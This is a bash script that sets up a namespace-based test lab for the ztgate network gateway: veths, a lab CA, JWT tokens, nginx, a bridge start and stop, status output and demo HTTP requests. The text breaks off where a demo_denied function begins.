#!/usr/bin/env bash
# ztgate lab: real clients and a real server talking through ztgate, all on
# one machine, inside network namespaces (no NIC, no hugepages, no traffic
# outside the namespaces).
#
#   ztg-client              ztg-dut (ztgate)               ztg-server
#   eth0 198.18.0.1 --- ztg-c [port 0]   [port 1] ztg-s --- eth0 198.18.0.2
#        2001:db8::1                                            2001:db8::2  nginx :80
#                           ztg-m 10.255.0.1/30 ------------- mgmt0 10.255.0.2/30
#                           (control process: JWKS fetch)       nginx https :8443 /jwks.json
#
# The management link ztg-m <-> mgmt0 is a plain veth pair, not bridged: the
# DUT's own IP stack uses it so ztgate's control process can fetch the lab
# IdP's JWKS (issuer lab-idp in rules/lab.conf) from nginx over TLS.
#
# Identity: at `up` the lab makes, in the run directory,
#   pki/               a CA and nginx's certificate for 10.255.0.2 (openssl)
#   idp/               the lab IdP's keys and tokens (scripts/lab/tokens.mjs,
#                      the npm package jose): one key per asymmetric algorithm,
#                      HS256/384/512 secrets, tokens/NAME.jwt, tokens.json
#   jwks/jwks.json     the public keys nginx serves (never an HMAC secret)
#   policy/lab.conf    the policy ztgate starts with: a copy of rules/lab.conf
#                      (copied again at each start-ztgate), next to the key
#                      files it names relative to itself: policy/keys/lab-ca.pem
#                      (jwks_ca_file) and policy/keys/hmac.jwks (jwks_file, 0600)
# node and npm come from scripts/setup.sh (`up` refuses to start without
# them and says so); jose is installed by tests/auth/install.sh into the build
# directory ($ZTG_BUILD/jose, the copy the pipeline's identity tests use), so
# later runs do not ask the npm registry again.
#
# usage: scripts/lab.sh COMMAND [options]
#
#   up                      create the namespaces and veths, the lab IdP's keys
#                           and tokens, the staged policy, start nginx in
#                           ztg-server (tears down an earlier lab first)
#   start-ztgate [opts] [--] [ztgate options]
#                           start ztgate in ztg-dut bridging ztg-c <-> ztg-s,
#                           wait until its ports are up; opts:
#       --driver af_packet|af_xdp   DPDK vdev on the veths (default af_packet)
#       --testpmd                   run dpdk-testpmd (io forwarding) instead of
#                                   ztgate: tells a lab problem from a ztgate one
#   stop-ztgate             SIGINT, wait for a clean exit, print its counters
#   ctl ARGS...             ztgatectl on the running ztgate's control socket
#                           (e.g. ctl status, ctl apply rules/lab-strict.conf)
#   status                  what is up
#   token [NAME]            print the lab token NAME (e.g. valid-es256, expired;
#                           without NAME: list them), for
#                           curl -H "Authorization: Bearer $(scripts/lab.sh token valid-es256)"
#   demo                    setup, build, up, start ztgate, send traffic
#                           through it, print the counters, tear down
#   down                    stop everything the lab started, delete the
#                           namespaces and the run directory (safe when nothing is up)
#
# environment:
#   ZTG_BUILD          meson build directory (default: <repo>/build)
#   ZTG_BIN            ztgate binary (default: $ZTG_BUILD/dataplane/ztgate)
#   ZTG_CTL            ztgatectl binary (default: $ZTG_BUILD/control/ztgatectl)
#   ZTG_LAB_POLICY     policy ztgate starts with (default: the staged copy of
#                      <repo>/rules/lab.conf, RUN/policy/lab.conf); "none" starts it
#                      without one: it enforces the last good policy it kept in the run
#                      directory's state/, if any. A policy given here is used as it is:
#                      key files it names must be next to it
#   ZTG_LAB_JOSE_DIR   where jose is installed (default: $ZTG_BUILD/jose, shared with
#                      the pipeline tests, when the build directory exists, else RUN/jose)
#   ZTG_LAB_RUN        run directory: logs, pid files, stats (default /run/ztg-lab)
#   ZTG_LAB_LCORES     EAL -l for the DUT (default 0-1)
#   ZTG_LAB_EAL_MEM    EAL memory options
#                      (default "--no-huge -m 512 --no-shconf --file-prefix=ztg-lab")
#   ZTG_READY_TIMEOUT  seconds to wait for the ready file (default 30)
#   ZTG_STOP_TIMEOUT   seconds to wait for a clean exit after SIGINT (default 20)
#   ZTG_LAB_KEEP=1     `down` keeps the run directory (logs) for inspection
#   NO_COLOR=1         plain output
set -euo pipefail

ROOT=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
LAB_DIR=$ROOT/scripts/lab
LAB_PROG=lab.sh
# shellcheck source=scripts/lab/lib.sh
source "$LAB_DIR/lib.sh"

BUILD=${ZTG_BUILD:-$ROOT/build}
ZTG_BIN=${ZTG_BIN:-$BUILD/dataplane/ztgate}
ZTG_CTL=${ZTG_CTL:-$BUILD/control/ztgatectl}
RUN=${ZTG_LAB_RUN:-/run/ztg-lab}
POLICY_DIR=$RUN/policy
STAGED_POLICY=$POLICY_DIR/lab.conf
LAB_POLICY=${ZTG_LAB_POLICY:-$STAGED_POLICY}
if [[ -n ${ZTG_LAB_JOSE_DIR:-} ]]; then
	JOSE_DIR=$ZTG_LAB_JOSE_DIR
elif [[ -d $BUILD ]]; then
	JOSE_DIR=$BUILD/jose
else
	JOSE_DIR=$RUN/jose
fi
LCORES=${ZTG_LAB_LCORES:-0-1}
# --no-huge with --in-memory is refused by DPDK 22.11 ("--legacy-mem is not
# compatible with --in-memory"); --no-shconf gives the same "no files left
# behind", and the file prefix names the telemetry socket
# (dpdk-telemetry.py -f ztg-lab).
EAL_MEM=${ZTG_LAB_EAL_MEM:---no-huge -m 512 --no-shconf --file-prefix=ztg-lab}
READY_TIMEOUT=${ZTG_READY_TIMEOUT:-30}
STOP_TIMEOUT=${ZTG_STOP_TIMEOUT:-20}

# Files in the run directory.
RUN_MARK=$RUN/.ztg-lab
NGINX_DIR=$RUN/nginx
NGINX_CONF=$NGINX_DIR/nginx.conf
NGINX_PID=$NGINX_DIR/nginx.pid
ACCESS_LOG=$NGINX_DIR/access.log
DUT_LOG=$RUN/ztgate.log       # stdout+stderr of ztgate (or testpmd)
DUT_PID=$RUN/ztgate.pid
DUT_RC=$RUN/ztgate.rc         # its exit status, written when it exits
DUT_INFO=$RUN/ztgate.info     # "kind driver" of the running bridge
DUT_CMD=$RUN/ztgate.cmd       # the command line, for the log reader
READY_FILE=$RUN/ready
STATS_JSON=$RUN/stats.json
CONTROL_SOCKET=$RUN/ztgate.sock
JWKS_ACCESS_LOG=$NGINX_DIR/jwks-access.log
PKI_DIR=$RUN/pki              # the lab CA and nginx's TLS certificate
IDP_DIR=$RUN/idp              # keys and tokens (tokens.mjs --out); 0700
JWKS_DIR=$RUN/jwks            # nginx's root on :8443
TOKENS_JSON=$IDP_DIR/tokens.json

usage() {
	sed -n '2,/^set -euo/{/^set -euo/d;s/^# \{0,1\}//;p}' "$0"
}

# --- small helpers ------------------------------------------------------------

nsx() { # nsx NS CMD...: run CMD inside namespace NS
	local ns=$1
	shift
	ip netns exec "$ns" "$@"
}

pid_alive() {
	[[ -n ${1:-} ]] && kill -0 "$1" 2>/dev/null
}

read_pid() {
	[[ -s $1 ]] && tr -dc '0-9' <"$1"
}

# shell_words ARG...: one line a shell could run, quoting only what needs it.
shell_words() {
	local a out=()
	for a in "$@"; do
		if [[ $a =~ ^[A-Za-z0-9_./=:,@%+-]+$ ]]; then
			out+=("$a")
		else
			out+=("$(printf '%q' "$a")")
		fi
	done
	echo "${out[*]}"
}

# The run directory is removed with rm -rf only when it carries our marker.
safe_rm_run() {
	[[ -d $RUN ]] || return 0
	if [[ $RUN == / || ! -e $RUN_MARK ]]; then
		warn "not removing $RUN: it has no $RUN_MARK marker, so it was not created by lab.sh"
		return 0
	fi
	rm -rf -- "$RUN"
}

# Turn off checksum offload, TSO/GSO and GRO: net_af_packet and net_af_xdp
# hand frames over as they are, so a partial checksum or a 64 KB
# "super-packet" would reach the far kernel, which drops it.
veth_offloads_off() {
	local ns=$1 ifname=$2 out
	if ! out=$(nsx "$ns" ethtool -K "$ifname" tx off rx off tso off gso off gro off 2>&1); then
		# ethtool exits non-zero when a feature cannot change; fine only if
		# every one we asked for is off now.
		local feats
		feats=$(nsx "$ns" ethtool -k "$ifname")
		if grep -Eq '^(tx-checksumming|rx-checksumming|tcp-segmentation-offload|generic-segmentation-offload|generic-receive-offload): on' <<<"$feats"; then
			die "ethtool -K $ifname (in $ns) failed: $out"
		fi
	fi
}

# --- up / down ------------------------------------------------------------------

lab_up() {
	need_root
	need_tools ip ethtool nginx ss sysctl openssl node npm
	# `down` removes the run directory, so never adopt one that holds
	# anything not made by the lab.
	if [[ -d $RUN && ! -e $RUN_MARK ]] && [[ -n $(ls -A -- "$RUN") ]]; then
		die "run directory $RUN exists, is not empty and was not made by lab.sh: set ZTG_LAB_RUN to a new directory"
	fi
	info "tearing down any earlier lab first"
	lab_down quiet

	mkdir -p "$RUN" "$NGINX_DIR/tmp" "$RUN/html"
	chmod 755 "$RUN" "$RUN/html"
	: >"$RUN_MARK"

	info "creating namespaces ${LAB_NAMESPACES[*]}"
	local ns
	for ns in "${LAB_NAMESPACES[@]}"; do
		ip netns add "$ns"
		nsx "$ns" ip link set lo up
	done
	# The DUT is a bump in the wire: no address, no IPv6, so its own kernel
	# never puts a packet (router solicitation, MLD) on the lab segment.
	nsx "$NS_DUT" sysctl -qw net.ipv6.conf.default.disable_ipv6=1 net.ipv6.conf.all.disable_ipv6=1
	for ns in "$NS_CLIENT" "$NS_SERVER"; do
		nsx "$ns" sysctl -qw net.ipv6.conf.default.accept_ra=0 net.ipv6.conf.all.accept_ra=0
	done

	info "creating veths: $NS_CLIENT/$HOST_IF <-> $NS_DUT/$DUT_IF_CLIENT, $NS_SERVER/$HOST_IF <-> $NS_DUT/$DUT_IF_SERVER"
	# One queue per veth: net_af_xdp binds queue 0 only, and a frame landing
	# on another queue would bypass the bridge.
	local q=(numtxqueues 1 numrxqueues 1)
	ip link add "$HOST_IF" netns "$NS_CLIENT" address "$CLIENT_MAC" mtu "$LAB_MTU" "${q[@]}" type veth \
		peer name "$DUT_IF_CLIENT" netns "$NS_DUT" address "$DUT_MAC_CLIENT" mtu "$LAB_MTU" "${q[@]}"
	ip link add "$HOST_IF" netns "$NS_SERVER" address "$SERVER_MAC" mtu "$LAB_MTU" "${q[@]}" type veth \
		peer name "$DUT_IF_SERVER" netns "$NS_DUT" address "$DUT_MAC_SERVER" mtu "$LAB_MTU" "${q[@]}"

	veth_offloads_off "$NS_CLIENT" "$HOST_IF"
	veth_offloads_off "$NS_SERVER" "$HOST_IF"
	veth_offloads_off "$NS_DUT" "$DUT_IF_CLIENT"
	veth_offloads_off "$NS_DUT" "$DUT_IF_SERVER"

	nsx "$NS_CLIENT" ip addr add "$CLIENT_IP4/$PREFIX4" dev "$HOST_IF"
	nsx "$NS_CLIENT" ip -6 addr add "$CLIENT_IP6/$PREFIX6" dev "$HOST_IF" nodad
	nsx "$NS_SERVER" ip addr add "$SERVER_IP4/$PREFIX4" dev "$HOST_IF"
	nsx "$NS_SERVER" ip -6 addr add "$SERVER_IP6/$PREFIX6" dev "$HOST_IF" nodad
	nsx "$NS_DUT" ip link set "$DUT_IF_CLIENT" promisc on up
	nsx "$NS_DUT" ip link set "$DUT_IF_SERVER" promisc on up
	nsx "$NS_CLIENT" ip link set "$HOST_IF" up
	nsx "$NS_SERVER" ip link set "$HOST_IF" up

	info "creating the management link: $NS_DUT/$MGMT_IF_DUT $MGMT_DUT_IP4 <-> $NS_SERVER/$MGMT_IF_SERVER $MGMT_SERVER_IP4 (not bridged)"
	ip link add "$MGMT_IF_DUT" netns "$NS_DUT" type veth peer name "$MGMT_IF_SERVER" netns "$NS_SERVER"
	nsx "$NS_DUT" ip addr add "$MGMT_DUT_IP4/$MGMT_PREFIX4" dev "$MGMT_IF_DUT"
	nsx "$NS_SERVER" ip addr add "$MGMT_SERVER_IP4/$MGMT_PREFIX4" dev "$MGMT_IF_SERVER"
	nsx "$NS_DUT" ip link set "$MGMT_IF_DUT" up
	nsx "$NS_SERVER" ip link set "$MGMT_IF_SERVER" up

	identity_setup
	nginx_start
	info "lab is up; next: $0 start-ztgate"
}

# --- identity: the lab CA, the lab IdP's keys and tokens, the staged policy -----------------

# The lab's CA and nginx's certificate for the management address: what
# ztgate trusts for the JWKS (jwks_ca_file), valid for the lab's lifetime.
pki_setup() {
	local out ext
	mkdir -p "$PKI_DIR"
	chmod 700 "$PKI_DIR"
	ext=$PKI_DIR/server.ext
	printf '%s
' "subjectAltName=IP:$MGMT_SERVER_IP4" "basicConstraints=critical,CA:FALSE" 		"keyUsage=critical,digitalSignature" "extendedKeyUsage=serverAuth" >"$ext"
	if ! out=$({
		openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 30 			-subj "/CN=ztgate lab CA" -keyout "$PKI_DIR/ca.key" -out "$PKI_DIR/ca.pem" 			-addext "basicConstraints=critical,CA:TRUE" -addext "keyUsage=critical,keyCertSign,cRLSign" &&
			openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes 				-subj "/CN=$MGMT_SERVER_IP4" -keyout "$PKI_DIR/server.key" -out "$PKI_DIR/server.csr" &&
			openssl x509 -req -in "$PKI_DIR/server.csr" -CA "$PKI_DIR/ca.pem" -CAkey "$PKI_DIR/ca.key" 				-set_serial "0x$(openssl rand -hex 8)" -days 30 -extfile "$ext" -out "$PKI_DIR/server.pem" &&
			openssl verify -CAfile "$PKI_DIR/ca.pem" "$PKI_DIR/server.pem"
	} 2>&1); then
		die "openssl could not make the lab CA and server certificate: $out"
	fi
	chmod 600 "$PKI_DIR"/*.key
}

# identity_setup: CA and certificate, jose, the IdP's keys and tokens, the
# JWKS for nginx, and the staged policy with its key files.
identity_setup() {
	info "identity: lab CA and certificate for $MGMT_SERVER_IP4 (openssl) in $PKI_DIR"
	pki_setup

	info "identity: jose for the token minting (tests/auth/install.sh $JOSE_DIR)"
	"$ROOT/tests/auth/install.sh" "$JOSE_DIR" || die "could not install jose into $JOSE_DIR"

	mkdir -p "$IDP_DIR"
	chmod 700 "$IDP_DIR"
	local out
	out=$(ZTG_JOSE_DIR=$JOSE_DIR node "$LAB_DIR/tokens.mjs" --out "$IDP_DIR" 2>&1) ||
		die "scripts/lab/tokens.mjs failed: $out"
	info "identity: $out"

	mkdir -p "$JWKS_DIR"
	chmod 755 "$JWKS_DIR"
	install -m 644 "$IDP_DIR/jwks.json" "$JWKS_DIR/jwks.json"

	mkdir -p "$POLICY_DIR/keys"
	chmod 700 "$POLICY_DIR" "$POLICY_DIR/keys"
	install -m 644 "$PKI_DIR/ca.pem" "$POLICY_DIR/keys/lab-ca.pem"
	install -m 600 "$IDP_DIR/hmac.jwks" "$POLICY_DIR/keys/hmac.jwks"
	stage_policy
	info "policy staged in $POLICY_DIR (lab.conf, keys/lab-ca.pem, keys/hmac.jwks, signatures/)"
}

# The policy ztgate loads names its key files relative to itself: a fresh
# copy of rules/lab.conf goes next to them (also at each start-ztgate, so an
# edit of rules/lab.conf takes effect without a new `up`).
stage_policy() {
	[[ -d $POLICY_DIR/keys ]] || die "no staged key files in $POLICY_DIR/keys: run '$0 up' first"
	install -m 600 "$ROOT/rules/lab.conf" "$STAGED_POLICY"
	# The rule sets lab.conf loads.
	install -d -m 700 "$POLICY_DIR/signatures"
	install -m 600 "$ROOT"/rules/signatures/*.rules "$POLICY_DIR/signatures/"
}

# lab_token NAME: the token's text; without NAME, the list of tokens.
lab_token() {
	[[ -s $TOKENS_JSON ]] || die "no lab tokens ($TOKENS_JSON): run '$0 up' first"
	if (($# == 0)); then
		jq -r '.[] | [.name, .alg, "\(.method) \(.path)", "\(.status) \(.reason // "")", .note] | @tsv' "$TOKENS_JSON" |
			awk -F'\t' '{printf "%-16s %-6s %-36s -> %-20s %s\n", $1, $2, $3, $4, $5}'
		return 0
	fi
	[[ $1 =~ ^[a-z0-9-]+$ && -s $IDP_DIR/tokens/$1.jwt ]] ||
		die "no lab token '$1': '$0 token' lists them"
	cat "$IDP_DIR/tokens/$1.jwt"
	[[ -t 1 ]] && echo
	return 0
}

nginx_start() {
	info "starting nginx in $NS_SERVER on $SERVER_IP4:80 and [$SERVER_IP6]:80, JWKS on https://$MGMT_SERVER_IP4:$JWKS_PORT"
	cp -- "$LAB_DIR"/html/* "$RUN/html/"
	# 1 MiB of random bytes for multi-segment transfers; its checksum lets a
	# client prove the bytes crossed the bridge unchanged.
	head -c 1048576 /dev/urandom >"$RUN/html/blob.bin"
	(cd "$RUN/html" && sha256sum blob.bin >blob.sha256)
	# The order export (lib.sh, LAB_EXPORT_PATH): about 70 KiB of order records, then one
	# with the test card number, which ztgate must not let out.
	awk -v card="$LAB_TEST_CARD" 'BEGIN {
		printf "{\"orders\":["
		for (i = 1; i <= 1200; i++)
			printf "{\"order_id\":%d,\"sku\":\"ZTG-%04d\",\"qty\":%d,\"total\":\"19.90\"},", i, i % 97, i % 5 + 1
		printf "{\"order_id\":1201,\"payment\":{\"card\":\"%s\",\"exp\":\"12/29\"}}]}\n", card
	}' >"$RUN/html/orders-export.json"
	chmod 644 "$RUN"/html/*
	sed "s|@RUN@|$RUN|g" "$LAB_DIR/nginx.conf.in" >"$NGINX_CONF"
	chown -R www-data:www-data "$NGINX_DIR/tmp"

	local out
	if ! out=$(nsx "$NS_SERVER" nginx -t -q -c "$NGINX_CONF" -e "$NGINX_DIR/error.log" 2>&1); then
		die "nginx rejects $NGINX_CONF: $out"
	fi
	nsx "$NS_SERVER" nginx -c "$NGINX_CONF" -e "$NGINX_DIR/error.log" ||
		die "nginx did not start: $(log_tail "$NGINX_DIR/error.log" 10)"

	local i
	for ((i = 0; i < 50; i++)); do
		if nsx "$NS_SERVER" ss -Hltn "sport = :80" | grep -q . &&
			nsx "$NS_SERVER" ss -Hltn "sport = :$JWKS_PORT" | grep -q .; then
			return 0
		fi
		sleep 0.1
	done
	die "nginx is not listening on ports 80 and $JWKS_PORT after 5 s: $(log_tail "$NGINX_DIR/error.log" 10)"
}

# lab_down [quiet]: stop what the lab started and delete it. Never fails on
# things that are already gone.
lab_down() {
	need_root
	local quiet=${1:-} ns pid pids

	if [[ -s $DUT_PID ]] && pid_alive "$(read_pid "$DUT_PID")"; then
		[[ -n $quiet ]] || info "stopping the bridge in $NS_DUT"
		ztgate_stop quiet || true
	fi
	if [[ -s $NGINX_PID ]] && pid_alive "$(read_pid "$NGINX_PID")"; then
		[[ -n $quiet ]] || info "stopping nginx"
		kill -TERM "$(read_pid "$NGINX_PID")" 2>/dev/null || true
	fi

	# Whatever still runs inside our namespaces is ours: end it by pid.
	for ns in "${LAB_NAMESPACES[@]}"; do
		ns_exists "$ns" || continue
		pids=$(ip netns pids "$ns" 2>/dev/null || true)
		[[ -n $pids ]] || continue
		# shellcheck disable=SC2086
		kill -TERM $pids 2>/dev/null || true
		for _ in 1 2 3 4 5 6 7 8 9 10; do
			pids=$(ip netns pids "$ns" 2>/dev/null || true)
			[[ -n $pids ]] || break
			sleep 0.2
		done
		if [[ -n $pids ]]; then
			warn "killing leftover process(es) in $ns: $pids"
			# shellcheck disable=SC2086
			kill -KILL $pids 2>/dev/null || true
		fi
	done

	for ns in "${LAB_NAMESPACES[@]}"; do
		if ns_exists "$ns"; then
			[[ -n $quiet ]] || info "deleting namespace $ns"
			ip netns del "$ns" || warn "could not delete namespace $ns"
		fi
	done

	# DPDK's runtime directory for our --file-prefix (telemetry socket).
	if [[ $EAL_MEM == *--file-prefix=ztg-lab* ]]; then
		rm -rf -- /var/run/dpdk/ztg-lab
	fi

	if [[ ${ZTG_LAB_KEEP:-0} == 1 && -d $RUN ]]; then
		[[ -n $quiet ]] || info "keeping $RUN (ZTG_LAB_KEEP=1)"
	else
		safe_rm_run
	fi
	[[ -n $quiet ]] || info "lab is down"
	return 0
}

lab_is_up() {
	local ns
	for ns in "${LAB_NAMESPACES[@]}"; do
		ns_exists "$ns" || return 1
	done
	[[ -s $NGINX_PID ]] && pid_alive "$(read_pid "$NGINX_PID")"
}

# --- the bridge: ztgate (or testpmd) in ztg-dut -------------------------------------

ztgate_running() {
	[[ -s $DUT_PID ]] && pid_alive "$(read_pid "$DUT_PID")"
}

# ztgate_start [--driver af_packet|af_xdp] [--testpmd] [--] [ztgate options...]
ztgate_start() {
	need_root
	local driver=af_packet kind=ztgate
	local -a extra=()
	while (($#)); do
		case "$1" in
		--driver)
			[[ $# -ge 2 ]] || die "--driver needs a value: af_packet or af_xdp"
			driver=$2
			shift
			;;
		--driver=*) driver=${1#--driver=} ;;
		--testpmd) kind=testpmd ;;
		--)
			shift
			extra+=("$@")
			break
			;;
		*) extra+=("$1") ;;
		esac
		shift
	done

	lab_is_up || die "the lab is not up (namespaces or nginx missing): run '$0 up' first"
	if ztgate_running; then
		die "a bridge is already running in $NS_DUT (pid $(read_pid "$DUT_PID")): run '$0 stop-ztgate' first"
	fi

	local pmd
	case "$driver" in
	af_packet) pmd=net_af_packet ;;
	af_xdp) pmd=net_af_xdp ;;
	*) die "unknown --driver '$driver': af_packet or af_xdp" ;;
	esac

	local -a eal cmd
	# shellcheck disable=SC2206
	eal=(-l "$LCORES" $EAL_MEM --no-pci
		"--vdev=${pmd}0,iface=$DUT_IF_CLIENT" "--vdev=${pmd}1,iface=$DUT_IF_SERVER")
	if [[ $kind == ztgate ]]; then
		[[ -x $ZTG_BIN ]] || die "no ztgate binary at $ZTG_BIN: build it (meson setup build && ninja -C build) or set ZTG_BIN / ZTG_BUILD"
		local -a policy=(--policy "$LAB_POLICY")
		[[ $LAB_POLICY == none ]] && policy=()
		[[ $LAB_POLICY == "$STAGED_POLICY" ]] && stage_policy
		cmd=("$ZTG_BIN" "${eal[@]}" -- -p 0:1 --ready-file "$READY_FILE" --stats-json "$STATS_JSON"
			"${policy[@]}" --control-socket "$CONTROL_SOCKET" --state-dir "$RUN/state" "${extra[@]}")
	else
		need_tools dpdk-testpmd
		# Stand-in bridge: io forwarding port 0 <-> port 1, no inspection. A
		# long --stats-period keeps it running without a terminal; SIGINT ends it.
		cmd=(dpdk-testpmd "${eal[@]}" -- --forward-mode=io --auto-start
			--stats-period=86400 --total-num-mbufs=8192 "${extra[@]}")
	fi

	rm -f -- "$READY_FILE" "$STATS_JSON" "$DUT_PID" "$DUT_RC" "$DUT_LOG"
	shell_words ip netns exec "$NS_DUT" "${cmd[@]}" >"$DUT_CMD"
	echo "$kind $driver" >"$DUT_INFO"
	info "starting $kind in $NS_DUT on $pmd: $DUT_IF_CLIENT = port 0, $DUT_IF_SERVER = port 1"
	info "  $(cat "$DUT_CMD")"
	info "  output: $DUT_LOG"

	# A wrapper shell inside the namespace runs the bridge, records its pid,
	# and writes its exit status when it ends. Job control (set -m) on both
	# levels keeps SIGINT deliverable: without it, background jobs of a
	# script start with SIGINT ignored.
	set -m
	# shellcheck disable=SC2016 # expanded by the inner shell
	ip netns exec "$NS_DUT" bash -c '
		set -m
		log=$1 pidf=$2 rcf=$3
		shift 3
		"$@" >"$log" 2>&1 </dev/null &
		echo $! >"$pidf"
		wait $!
		echo $? >"$rcf"
	' ztgate-wrapper "$DUT_LOG" "$DUT_PID" "$DUT_RC" "${cmd[@]}" >/dev/null 2>&1 &
	set +m

	ztgate_wait_ready "$kind" "$driver"
}

# ztgate creates its --ready-file once every port has started; testpmd has
# none, so its log line announcing forwarding stands in.
bridge_ready() {
	if [[ $1 == ztgate ]]; then
		[[ -e $READY_FILE ]]
	else
		grep -q 'packet forwarding - ports=' "$DUT_LOG" 2>/dev/null
	fi
}

# Traffic may flow only once the ports are started: an ARP sent before is
# lost and leaves the client's neighbour entry FAILED for seconds.
ztgate_wait_ready() {
	local kind=$1 driver=$2 deadline=$((SECONDS + READY_TIMEOUT))
	while ((SECONDS < deadline)); do
		if [[ -s $DUT_RC ]]; then
			local hint=""
			if [[ $driver == af_xdp ]]; then
				hint=" (net_af_xdp needs XDP support on the veths and an AF_XDP socket; see the log for the libbpf/libxdp error; --driver af_packet is the fallback)"
			fi
			die "$kind exited with status $(cat "$DUT_RC") before its ports were ready$hint
$(log_tail "$DUT_LOG" 30)"
		fi
		if bridge_ready "$kind"; then
			local pid
			pid=$(read_pid "$DUT_PID")
			info "$kind is forwarding (pid $pid, $driver)"
			grep -m1 -E '^ztgate: [0-9]+ ports started' "$DUT_LOG" 2>/dev/null | sed "s/^/$LAB_PROG:   /" || true
			return 0
		fi
		sleep 0.1
	done
	local pid
	pid=$(read_pid "$DUT_PID" || true)
	if [[ -n $pid ]]; then kill -KILL "$pid" 2>/dev/null || true; fi
	die "$kind did not report ready within ${READY_TIMEOUT}s (no $READY_FILE); killed it
$(log_tail "$DUT_LOG" 30)"
}

# ztgate_stop [quiet]: SIGINT, wait for the exit, report status and counters.
# Returns non-zero when the bridge did not exit cleanly (or had crashed).
ztgate_stop() {
	need_root
	local quiet=${1:-} pid kind=ztgate driver=af_packet
	[[ -s $DUT_INFO ]] && read -r kind driver <"$DUT_INFO"

	if [[ ! -s $DUT_PID ]]; then
		[[ -n $quiet ]] || info "no bridge was started in $NS_DUT"
		return 0
	fi
	pid=$(read_pid "$DUT_PID")
	if ! pid_alive "$pid"; then
		local rc=unknown
		[[ -s $DUT_RC ]] && rc=$(cat "$DUT_RC")
		rm -f -- "$DUT_PID"
		echo "$LAB_PROG: error: $kind (pid $pid) had already exited, status $rc, before it was asked to stop" >&2
		log_tail "$DUT_LOG" 30 >&2
		return 1
	fi

	[[ -n $quiet ]] || info "stopping $kind (pid $pid) with SIGINT"
	kill -INT "$pid"
	local deadline=$((SECONDS + STOP_TIMEOUT))
	while pid_alive "$pid" && ((SECONDS < deadline)); do
		sleep 0.1
	done
	if pid_alive "$pid"; then
		kill -KILL "$pid" 2>/dev/null || true
		rm -f -- "$DUT_PID"
		echo "$LAB_PROG: error: $kind did not exit within ${STOP_TIMEOUT}s of SIGINT; killed it (SIGKILL)" >&2
		log_tail "$DUT_LOG" 30 >&2
		return 1
	fi
	# The wrapper writes the exit status right after the process is reaped.
	local i
	for ((i = 0; i < 50; i++)); do
		[[ -s $DUT_RC ]] && break
		sleep 0.1
	done
	local rc
	rc=$(cat "$DUT_RC" 2>/dev/null || echo unknown)
	rm -f -- "$DUT_PID"
	if [[ $rc != 0 ]]; then
		echo "$LAB_PROG: error: $kind exited with status $rc after SIGINT" >&2
		log_tail "$DUT_LOG" 30 >&2
		return 1
	fi
	[[ -n $quiet ]] && return 0

	info "$kind exited cleanly (status 0)"
	if [[ $kind == ztgate ]]; then
		if [[ ! -s $STATS_JSON ]]; then
			echo "$LAB_PROG: error: ztgate exited but wrote no $STATS_JSON" >&2
			return 1
		fi
		echo
		print_ztgate_stats "$STATS_JSON"
		echo
		info "full counters: $STATS_JSON (removed by '$0 down'; ZTG_LAB_KEEP=1 keeps it)"
	else
		echo
		sed -n '/Forward statistics for port/,/^ *+\{20,\} *$/p' "$DUT_LOG" || log_tail "$DUT_LOG" 40
	fi
}

# --- status -------------------------------------------------------------------------

lab_status() {
	need_root
	local ns any=0
	heading "namespaces"
	for ns in "${LAB_NAMESPACES[@]}"; do
		if ns_exists "$ns"; then
			any=1
			echo "$ns:"
			nsx "$ns" ip -br addr show | grep -v '^lo ' | sed 's/^/  /' || true
		else
			echo "$ns: absent"
		fi
	done

	heading "processes"
	if [[ -s $NGINX_PID ]] && pid_alive "$(read_pid "$NGINX_PID")"; then
		echo "nginx: running in $NS_SERVER (master pid $(read_pid "$NGINX_PID")), access log $ACCESS_LOG"
		echo "  JWKS: $JWKS_URL (from $NS_DUT over the management link), log $JWKS_ACCESS_LOG"
	else
		echo "nginx: not running"
	fi
	if ztgate_running; then
		local kind driver
		read -r kind driver <"$DUT_INFO"
		echo "$kind: running in $NS_DUT (pid $(read_pid "$DUT_PID"), $driver), log $DUT_LOG"
		[[ $kind != ztgate || -e $READY_FILE ]] || echo "  (not ready yet: no $READY_FILE)"
	elif [[ -s $DUT_RC ]]; then
		echo "bridge: exited with status $(cat "$DUT_RC"), log $DUT_LOG"
	else
		echo "bridge: not running"
	fi
	if ns_exists "$NS_CLIENT"; then
		heading "client neighbour table"
		nsx "$NS_CLIENT" ip neigh show dev "$HOST_IF" | sed 's/^/  /'
	fi
	((any)) || echo -e "\nnothing is up: $0 up"
	[[ -d $RUN ]] && echo -e "\nrun directory: $RUN"
	return 0
}

# --- demo -----------------------------------------------------------------------------

# lab_http EXPECTED_STATUS METHOD URL [JSON_BODY]: one request from the
# client, shown as request line, status line and body.
lab_http() { # lab_http WANT METHOD URL [BODY [CURL-ARGS...]]
	local want=$1 method=$2 url=$3 body=${4:-} hdr out rc=0
	shift $(($# < 4 ? $# : 4))
	hdr=$(mktemp) out=$(mktemp)
	local -a args=(-sS --max-time 5 -X "$method" -D "$hdr" -o "$out"
		-w '%{http_code} %{time_total}' -A "ztg-lab-demo/1" "$@")
	[[ -n $body ]] && args+=(-H 'Content-Type: application/json' --data-binary "$body")
	printf '%s> %s %s%s\n' "$_c_bold" "$method" "$url" "$_c_off"
	local extra
	for extra in "$@"; do
		[[ $extra == -H ]] && continue
		# A token is long and says nothing to the eye: its start and size.
		((${#extra} <= 80)) || extra="${extra:0:60}... (${#extra} bytes)"
		printf '>   %s\n' "$extra"
	done
	[[ -n $body ]] && printf '> %s\n' "$body"
	local res
	res=$(nsx "$NS_CLIENT" curl "${args[@]}" -g "$url") || rc=$?
	if ((rc != 0)); then
		rm -f -- "$hdr" "$out"
		die "curl $method $url failed (curl exit $rc): no answer through the bridge"
	fi
	local code=${res%% *} secs=${res#* }
	printf '< %s   (%s ms)\n' "$(head -n1 "$hdr" | tr -d '\r')" "$(awk -v s="$secs" 'BEGIN {printf "%.1f", s * 1000}')"
	sed 's/^/< /' "$out"
	[[ -z $(tail -c1 "$out") ]] || echo
	rm -f -- "$hdr" "$out"
	[[ $code == "$want" ]] || die "$method $url: expected HTTP $want, got $code"
}

demo_requests() {
	heading "HTTP requests from the client ($CLIENT_IP4) to nginx ($SERVER_IP4) through ztgate"
	lab_http 200 GET "$SERVER_URL/healthz"
	lab_http 200 GET "$SERVER_URL/api/v1/orders/42"
	lab_http 200 GET "$SERVER_URL/api/v1/users/alice"
	lab_http 201 POST "$SERVER_URL/api/v1/orders" '{"sku":"ZTG-1","qty":2,"customer":"alice"}'
}

demo_denied() {
